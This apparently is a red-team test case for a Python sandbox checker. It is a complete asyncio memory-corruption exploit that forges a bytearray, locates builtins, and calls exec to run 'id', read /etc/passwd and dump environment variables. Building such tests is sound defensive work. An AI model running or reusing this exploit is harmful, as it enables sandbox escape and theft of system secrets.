# expect: reject store
# line: 14
# why: round 84: any function's first parameter was taken for self; a method called through its class (or a plain function) takes any object there, a Future here (verified: id, /etc/passwd, os.environ under 3.11.2)
# ok01: round-83 primitive, with the shadowing store moved onto the bare first
# parameter of a method called through its class. shadowed_method() exempts any store whose receiver
# is "the bare first parameter of a method" (taken for self of the program's class),
# but a method called through its class (Planter.plant(x, f): a plain function in
# Python 3) takes any object as that parameter: here an asyncio.Future and a Task.
import asyncio


class Planter:
    def plant(obj, fn):
        obj.cancel = fn


class Box:
    def __init__(self):
        self.t1 = None
        self.t2 = None
        self.fill = b""
        self.got = None
        self.keep = []


box = Box()


def qword(v):
    return v.to_bytes(8, "little")


def no(*args):
    return False


class Refill:
    def __iter__(self):
        return self

    def __next__(self):
        box.keep.append(bytearray(box.fill))
        raise StopIteration


class Msg:
    __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")

    def __iter__(self):
        Planter.plant(box.t2, no)
        box.t1.cancel(())
        return Refill()


async def second(f):
    try:
        await f
    except asyncio.CancelledError as e:
        box.got = e.args[0]


async def first(t2):
    t = asyncio.current_task()
    box.t1 = t
    t.cancel(Msg())
    await t2


async def forge(header):
    box.fill = bytes(16) + header + bytes(79 - len(header))
    f = asyncio.Future()
    Planter.plant(f, list)
    t2 = asyncio.create_task(second(f))
    box.t2 = t2
    await asyncio.sleep(0)
    t1 = asyncio.create_task(first(t2))
    await asyncio.sleep(0)
    await asyncio.sleep(0)
    f.set_result(1)
    await asyncio.sleep(0)
    await asyncio.sleep(0)
    return box.got


async def main():
    mem = await forge(qword(1000) + qword(id(bytearray)) + qword(2 ** 62) + qword(2 ** 62)
                      + qword(0) + qword(0) + qword(1))
    print("forged:", type(mem), len(mem))
    where = int.from_bytes(mem[id(no) + 24:id(no) + 32], "little")
    print("builtins dict at", hex(where))
    holder = await forge(qword(1000) + qword(id(tuple)) + qword(1) + qword(where))
    table = holder[0]
    run = table.get("exec")
    run("import os; os.system('id'); print(open('/etc/passwd').read()[:200]); print(dict(os.environ))")


asyncio.run(main())
